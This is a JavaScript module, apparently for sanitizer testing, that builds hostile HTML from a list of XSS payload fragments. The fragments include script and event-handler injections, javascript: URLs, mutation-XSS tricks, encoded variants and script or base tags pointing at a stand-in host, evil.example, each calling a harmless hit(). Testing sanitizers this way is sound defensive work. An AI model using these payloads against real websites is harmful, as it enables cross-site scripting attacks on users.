// Markup that would run a script if anything let it through; every piece of it that can calls hit().

import { textOf } from "./generate.mjs";

const pieces = [
  "<script>hit()</script>", "<ScRiPt >hit()</sCrIpT >", "<script src=//evil.example/x.js>", "<script", "</script>", "<script>/*", "*/hit()//", "<!--<script>", "-->",
  "<img src=x onerror=hit()>", "<img src='x'onerror='hit()'>", '<img src="x"/onerror="hit()">', "<img src=x onerror\n=\nhit()>", "<img/src/onerror=hit()>",
  "<img src=javascript:hit()>", "<svg onload=hit()>", "<svg/onload=hit()//", "<svg><script>hit()</script>", "<svg><a xlink:href=javascript:hit()>x",
  "<svg><animate onbegin=hit() attributeName=x>", "<svg><use href=data:image/svg+xml,x>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>", '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  "<textarea></textarea><img src=x onerror=hit()>", "<xmp></xmp><img src=x onerror=hit()>", "<title></title><img src=x onerror=hit()>",
  "<style>*{background:url(javascript:hit())}</style>", "<style><img src=x onerror=hit()>", "</style><script>hit()</script>", "<link rel=import href=data:text/html,x>",
  "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=javascript:hit()>", "<iframe src=javascript:hit()>",
  "<iframe srcdoc='<script>parent.hit()</script>'>", "<object data=javascript:hit()>", "<embed src=javascript:hit()>", "<a href=javascript:hit()>x</a>",
  "<a href='java&#x09;script:hit()'>x</a>", "<a href=' \u0001javascript:hit()'>x</a>", '<a href="JaVaScRiPt&colon;hit()">x</a>',
  "<a href=data:text/html,<script>hit()</script>>x</a>", "<a href=vbscript:hit()>x", "<form action=javascript:hit()><button>x", "<button formaction=javascript:hit()>x",
  "<input autofocus onfocus=hit()>", "<details open ontoggle=hit()>x", "<body onload=hit()>", "<video><source onerror=hit()>", "<marquee onstart=hit()>",
  "<p style=animation-name:x onanimationstart=hit()>", "<p onclick=hit()>x</p>", "<div id=x tabindex=1 onfocus=hit()>", "<template><script>hit()</script></template>",
  "&lt;script&gt;hit()&lt;/script&gt;", "&#60;img src=x onerror=hit()&#62;", "&lt;img src=x onerror=hit()&gt;", "%3Cscript%3Ehit()%3C/script%3E",
  "\\u003cscript\\u003ehit()\\u003c/script\\u003e", '"><script>hit()</script>', "'><img src=x onerror=hit()>", '" onmouseover=hit() x="', "' autofocus onfocus=hit() x='",
  "` onerror=hit() `", "javascript:hit()", "javascript://%0ahit()", "];hit();//", '"};hit();//', "</title><script>hit()</script>", "]]><script>hit()</script>",
  "{{constructor.constructor('hit()')()}}", "${hit()}", "\u2028hit()\u2029", "\0", "\ud800", "<\u200dscript>hit()</script>", "＜script＞hit()＜/script＞",
  "<b>", "</b>", "<p>", "</p>", "<!--", "<![CDATA[", "<?php", "<", ">", "&", "text",
];

/** Hostile markup, up to six pieces of it. */
export const hostileMarkup = textOf(pieces, 6);
